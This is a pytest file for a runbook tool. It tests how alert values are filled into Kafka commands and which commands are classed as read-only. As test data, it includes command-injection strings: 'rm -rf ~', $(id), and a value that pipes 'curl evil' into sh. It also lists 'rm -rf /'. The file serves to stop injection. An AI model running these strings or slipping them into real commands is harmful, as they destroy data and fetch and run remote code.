"""What an alert puts into a command, and which commands only read."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from service.cli.runbook.surroundings import NotRunnableError, Surroundings
from service.runbooks.commands import Effect, effect_of, fill, fill_text
from service.runbooks.filling import values_of

HOSTILE = "a b; rm -rf ~ $(id) `id` 'x\" --execute {group} ü\n"
SHORT_HOSTILE = "{group};curl${IFS}evil|sh"  # has the form of a placeholder, and no space
AT = Surroundings(
    bootstrap_servers="b1:9092",
    of_server=("--server", "http://t:1"),
    of_server_also=("--server", "http://t:1"),
    config=Path("/c.toml"),
)


@pytest.mark.parametrize("value", [HOSTILE, SHORT_HOSTILE])
def test_a_value_never_leaves_its_word(value: str) -> None:
    command = fill("kafka-consumer-groups.sh --describe --group={group}", {"group": value})
    assert command.words == ("kafka-consumer-groups.sh", "--describe", f"--group={value}")
    assert command.effect is Effect.READS
    assert shlex.split(str(command)) == list(command.words)
    assert command.is_complete  # capitals of a value are not for a person to fill in


def test_a_pattern_matches_the_name_alone() -> None:
    assert fill("tidemark tx ls --topic={topic:re}", {"topic": "a.b"}).words[-1] == r"--topic=a\.b"


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("tidemark tx hanging", Effect.READS),
        ("tidemark collect --once", Effect.READS),
        ("tidemark loss check orders-0", Effect.READS),
        ("tidemark status", Effect.READS),
        ("tidemark lag billing", Effect.READS),
        ("tidemark collect", Effect.UNKNOWN),  # it never ends
        ("tidemark alerts close {fingerprint}", Effect.CHANGES),
        ("tidemark sandbox down", Effect.UNKNOWN),
        ("tidemark token create x", Effect.UNKNOWN),
        ("rm -rf /", Effect.UNKNOWN),
        ("sh -c 'tidemark tx ls'", Effect.UNKNOWN),
        ("/opt/kafka-topics.sh --describe", Effect.UNKNOWN),
        ("kafka-topics.sh --describe --topic=a", Effect.READS),
        ("kafka-topics --describe --topic a", Effect.READS),
        ("kafka-topics.sh --describe --del --topic=a", Effect.UNKNOWN),  # short for --delete
        ("kafka-topics.sh --describe --topic --delete", Effect.UNKNOWN),
        ("kafka-topics.sh --topic=a", Effect.UNKNOWN),
        ("kafka-topics.sh --delete --topic=a", Effect.UNKNOWN),
        ("kafka-consumer-groups.sh --describe --group=a --reset-offsets", Effect.UNKNOWN),
        ("kafka-consumer-groups.sh --delete --group=a", Effect.CHANGES),
        ("kafka-transactions.sh describe --transactional-id=a", Effect.READS),
        ("kafka-transactions.sh abort --topic=a --partition=0 --start-offset=1", Effect.CHANGES),
        ("kafka-configs.sh --describe --entity-type=topics --add-config=a=1", Effect.UNKNOWN),
    ],
)
def test_only_what_is_known_to_read_reads(line: str, effect: Effect) -> None:
    assert effect_of(shlex.split(line)) is effect


def test_addresses_are_added_where_options_may_be() -> None:
    def completed(line: str) -> str:
        return shlex.join(AT.complete(fill(line, {})))

    assert completed("tidemark loss show -- a-0") == "tidemark loss show --server http://t:1 -- a-0"
    assert (
        completed("tidemark tx show -- -x")
        == "tidemark tx show --config /c.toml --bootstrap-servers b1:9092 --server http://t:1 -- -x"
    )
    assert (
        completed("kafka-transactions.sh list")
        == "kafka-transactions.sh --bootstrap-server b1:9092 list"
    )
    assert completed("tidemark lag -- a") == "tidemark lag --server http://t:1 -- a"
    assert completed("kubectl get pods") == "kubectl get pods"


def test_what_is_shown_of_the_sandbox_is_what_runs() -> None:
    """A person says yes to the line that is shown."""
    at = Surroundings(bootstrap_servers="prod:9092", kafka_tools="sandbox")
    command = fill("kafka-transactions.sh list", {})
    shown = at.complete(command)
    assert shown == ("tidemark", "sandbox", "tool", "kafka-transactions.sh", "list")
    assert tuple(at.program(command)[-len(shown) + 1 :]) == shown[1:]


def test_each_tool_gets_its_own_option_for_properties() -> None:
    at = Surroundings(bootstrap_servers="b1:9092", command_config=Path("/p"))
    elect = at.complete(fill("kafka-leader-election.sh --election-type=preferred", {}))
    assert elect[1:5] == ("--bootstrap-server", "b1:9092", "--admin.config", "/p")
    quorum = "kafka-metadata-quorum.sh --bootstrap-controller=c:1 describe --status"
    assert at.complete(fill(quorum, {}))[1:3] == ("--command-config", "/p")


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("tidemark loss show -- {topic}-0", "no value for topic"),
        ("cp -a LOG_DIR/x SAFE_PLACE/", "fill in LOG_DIR, SAFE_PLACE"),
        ("tidemark tx hanging", "the brokers are not known"),
    ],
)
def test_what_is_not_known_is_never_run(line: str, why: str) -> None:
    with pytest.raises(NotRunnableError, match=why):
        Surroundings().program(fill(line, {}))


def test_a_missing_tool_is_named(tmp_path: Path) -> None:
    at = Surroundings(bootstrap_servers="b1:9092", kafka_tools=str(tmp_path))
    command = fill("kafka-transactions.sh list", {})
    with pytest.raises(NotRunnableError, match=r"kafka-transactions\.sh is not in"):
        at.program(command)
    tool = tmp_path / "kafka-transactions"  # as some distributions name it
    tool.touch(0o755)
    assert at.program(command) == (str(tool), "--bootstrap-server", "b1:9092", "list")


def test_the_alert_itself_wins_over_labels_and_evidence() -> None:
    values = values_of(
        {
            "fingerprint": "0123",
            "rule": "some_rule",
            "labels": {"topic": "a", "severity": "critical"},
            "severity": "warning",
            "evidence": {"topic": "b", "rows": [1], "none": None, "count": 0, "is_it": True},
        }
    )
    expected = {"fingerprint": "0123", "rule": "some_rule", "topic": "a", "severity": "warning"}
    assert values == {**expected, "count": "0", "is_it": "yes"}


def test_prose_says_what_is_not_known() -> None:
    assert fill_text("from {a} to {b}", {"a": "1"}) == "from 1 to (not known)"
